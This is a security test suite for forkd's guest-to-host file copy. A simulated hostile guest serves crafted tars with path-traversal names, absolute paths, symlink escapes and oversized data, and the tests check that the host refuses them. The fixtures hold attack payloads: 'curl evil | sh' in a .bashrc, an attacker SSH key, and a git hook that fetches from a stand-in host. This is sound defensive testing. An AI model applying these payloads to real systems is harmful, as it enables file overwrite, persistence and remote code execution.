"""A hostile guest against forkd's file transfers (SECURITY.md section 1, issue 16): code in the guest replaces the
agent's own fs_* ops (found on the call stack, as in test_guest_protocol.py) and answers with crafted tars, oversized
chunks or misleading listings. The host must never write outside a `forkd cp` destination, never through a link,
never past its byte limit, and must stop a child whose replies break the bounds. Real VMs.

Each crafted tar is also extracted the naive way (tarfile without a filter) to show the attack is real."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from forkd.base.errors import InvalidInput, ProtocolViolation
from forkd.client.copy import copy
from forkd.client.local import LocalBackend
from forkd.reconciler.control import Control
from forkd.vmm.agent_files import AgentFiles
from tests.security.test_guest_protocol import GUEST, assert_contained

pytestmark = pytest.mark.vm

MAKE_TAR = '''
import base64, io, tarfile
def make_tar(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, kind, val in members:
            ti = tarfile.TarInfo(name)
            if kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
                t.addfile(ti)
            elif kind in ("sym", "hard"):
                ti.type, ti.linkname = (tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE), val
                t.addfile(ti)
            elif kind == "dirdata":
                ti.type, ti.size = tarfile.DIRTYPE, len(val)
                t.addfile(ti, io.BytesIO(val.encode()))
            elif kind == "zeros":
                ti.size = val
                t.addfile(ti, io.BytesIO(bytes(val)))
            else:
                data = val.encode() if isinstance(val, str) else val
                ti.size, ti.mode = len(data), 0o644
                t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()
'''

SERVE_TAR = GUEST + MAKE_TAR + '''
TAR = make_tar(MEMBERS)
POS = [0]
def _read(a):
    chunk = TAR[POS[0]:POS[0] + a["length"]]
    POS[0] += len(chunk)
    return {"data": base64.b64encode(chunk).decode(), "eof": len(chunk) < a["length"]}
OPS["fs_tar_open"] = lambda a: (POS.__setitem__(0, 0), {"stream": 7})[1]
OPS["fs_stream_read"] = _read
OPS["fs_stream_close"] = lambda a: {"error": None}
'''


def craft(rt, child_id: str, members: list) -> bytes:
    """Make the guest serve a tar of `members` for any tar request; return the same tar made on the host."""
    rt.exec_code(child_id, f"MEMBERS = {members!r}\n" + SERVE_TAR)
    ns: dict = {}
    exec(MAKE_TAR, ns)  # noqa: S102 - the same builder, to show the naive extraction
    return ns["make_tar"](members)


def naive(tar: bytes, dest: Path) -> None:
    with tarfile.open(fileobj=io.BytesIO(tar)) as t:
        t.extractall(dest, filter="fully_trusted")


def test_cp_refuses_members_that_climb_out(rt, fork, tmp_path):
    [c] = fork(1)
    members = [("top", "dir", None), ("top/ok.txt", "file", "fine"), ("top/../../escaped.txt", "file", "pwned")]
    tar = craft(rt, c.id, members)
    (tmp_path / "naive" / "dest").mkdir(parents=True)
    naive(tar, tmp_path / "naive" / "dest")
    assert (tmp_path / "naive" / "escaped.txt").exists()  # the attack works on a naive extraction
    (tmp_path / "dest").mkdir()
    with pytest.raises(InvalidInput, match=r"climbs out"):
        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
    assert not (tmp_path / "escaped.txt").exists() and not list((tmp_path / "dest").rglob("escaped.txt"))


def test_cp_refuses_absolute_member_names(rt, fork, tmp_path):
    [c] = fork(1)
    target = tmp_path / "abs-target.txt"
    craft(rt, c.id, [("top", "dir", None), (str(target), "file", "pwned")])
    (tmp_path / "dest").mkdir()
    with pytest.raises(InvalidInput, match="absolute"):
        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
    assert not target.exists()


def test_cp_never_writes_through_a_symlink(rt, fork, tmp_path):
    """A link to a host directory, then a file 'inside' it; and a link to a host file, then a file of its name."""
    victim_dir, victim_file = tmp_path / "victim-dir", tmp_path / "victim.txt"
    victim_dir.mkdir()
    victim_file.write_text("original")
    [c] = fork(1)
    members = [("top", "dir", None), ("top/link", "sym", str(victim_dir)), ("top/link/pwned.txt", "file", "pwned")]
    tar = craft(rt, c.id, members)
    (tmp_path / "naive").mkdir()
    naive(tar, tmp_path / "naive")
    assert (victim_dir / "pwned.txt").exists()  # the attack works on a naive extraction
    (victim_dir / "pwned.txt").unlink()
    (tmp_path / "dest").mkdir()
    with pytest.raises(InvalidInput, match="refusing to write through it"):
        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
    assert list(victim_dir.iterdir()) == []
    craft(rt, c.id, [("top", "dir", None), ("top/f", "sym", str(victim_file)), ("top/f", "file", "new")])
    (tmp_path / "dest2").mkdir()
    copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest2"))
    assert victim_file.read_text() == "original"
    out = tmp_path / "dest2" / "top" / "f"
    assert not out.is_symlink() and out.read_text() == "new"


def test_cp_into_an_existing_directory_takes_only_the_entry_asked_for(rt, fork, tmp_path):
    """`forkd cp ID:/root/result.txt DIR` where the guest answers with dotfiles beside the file: the copy fails, DIR
    is unchanged (not even result.txt lands), and the tar on stdout (`-`) is refused before a byte is written."""
    [c] = fork(1)
    members = [("result.txt", "file", "answer"), (".bashrc", "file", "curl evil | sh"),
               (".ssh/authorized_keys", "file", "ssh-ed25519 AAAA attacker"),
               (".git/hooks/pre-commit", "file", "#!/bin/sh\ncurl evil")]
    tar = craft(rt, c.id, members)
    (tmp_path / "naive").mkdir()
    naive(tar, tmp_path / "naive")
    assert (tmp_path / "naive" / ".ssh" / "authorized_keys").exists()  # the attack works on a naive extraction
    dest = tmp_path / "home"
    (dest / ".git" / "hooks").mkdir(parents=True)
    (dest / ".bashrc").write_text("mine")
    before = sorted((str(p.relative_to(dest)), p.is_dir() or p.read_bytes()) for p in dest.rglob("*"))
    be = LocalBackend(Control(rt))
    with pytest.raises(InvalidInput, match="not beneath 'result.txt'"):
        copy(be, f"{c.id}:/root/result.txt", str(dest))
    assert sorted((str(p.relative_to(dest)), p.is_dir() or p.read_bytes()) for p in dest.rglob("*")) == before
    out = io.BytesIO()
    with pytest.raises(InvalidInput, match="not beneath"):
        copy(be, f"{c.id}:/root/result.txt", "-", stdout=out)
    assert out.getvalue() == b""


def test_the_archive_route_passes_on_only_the_entry_asked_for(rt, fork):
    """The daemon's GET .../files/archive: a first member outside the entry is a 400 naming it; one after an
    honest first member ends the stream unfinished (no end-of-archive), never passing the outsider's bytes."""
    from starlette.testclient import TestClient

    from forkd.api.app import create_app

    [c] = fork(1)
    client = TestClient(create_app(Control(rt)))  # server errors raise here: a cut stream shows
    craft(rt, c.id, [(".bashrc", "file", "pwned"), ("result.txt", "file", "ok")])
    r = client.get(f"/v1/sandboxes/{c.id}/files/archive", params={"path": "/root/result.txt"})
    assert r.status_code == 400 and ".bashrc" in r.text, r.text
    craft(rt, c.id, [("result.txt", "file", "ok" * 40000), (".bashrc", "file", "PWNED" * 100)])
    body = b""
    with pytest.raises(RuntimeError, match="response already started") as cut, \
            client.stream("GET", f"/v1/sandboxes/{c.id}/files/archive", params={"path": "/root/result.txt"}) as r:
        for part in r.iter_bytes():
            body += part
    assert isinstance(cut.value.__cause__, InvalidInput) and ".bashrc" in str(cut.value.__cause__)
    assert b"ok" * 1000 in body and b"PWNED" not in body


def test_cp_stops_at_its_byte_limit(rt, fork, tmp_path):
    [c] = fork(1)
    craft(rt, c.id, [("top", "dir", None), ("top/big", "zeros", 3 << 20)])
    (tmp_path / "dest").mkdir()
    with pytest.raises(InvalidInput, match="over 1048576 bytes"):
        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"), max_bytes=1 << 20)
    assert list((tmp_path / "dest").iterdir()) == []  # nothing half-written


def _violates(rt, fork, code: str, call) -> ProtocolViolation:
    victim, bystander = fork(2)
    rt.exec_code(victim.id, GUEST + code)
    with pytest.raises(ProtocolViolation) as exc, rt.agent(victim.id) as a:
        call(AgentFiles(a))
    assert_contained(rt, victim, bystander)
    return exc.value


def test_read_chunk_over_what_was_asked_stops_the_child(rt, fork):
    code = 'OPS["fs_read"] = lambda a: {"data": base64.b64encode(b"x" * (a["length"] + 1)).decode(), "eof": False}\n'
    exc = _violates(rt, fork, "import base64\n" + code, lambda f: list(f.read("/etc/hostname", chunk=4096)))
    assert "at most 4096" in str(exc)


def test_listing_names_that_are_paths_stop_the_child(rt, fork):
    code = 'OPS["fs_list"] = lambda a: {"entries": [["../../etc/passwd", "file", 1, 420, 0.0]], "more": False}\n'
    exc = _violates(rt, fork, code, lambda f: f.list("/root"))
    assert "not one path component" in str(exc)


def test_listing_that_never_advances_stops_the_child(rt, fork):
    code = 'OPS["fs_list"] = lambda a: {"entries": [["a", "file", 1, 420, 0.0]], "more": True}\n'
    exc = _violates(rt, fork, code, lambda f: f.list("/root"))
    assert "out of order" in str(exc)


def test_watch_events_of_an_unknown_shape_stop_the_child(rt, fork):
    code = ('OPS["fs_watch_start"] = lambda a: {"watch": 1, "kind": "poll"}\n'
            'OPS["fs_watch_poll"] = lambda a: {"events": [["create", "x"]] * 201, "more": False, "overflow": False}\n')
    exc = _violates(rt, fork, code, lambda f: f.watch_poll(f.watch_start("/root")[0]))
    assert "at most 200" in str(exc)
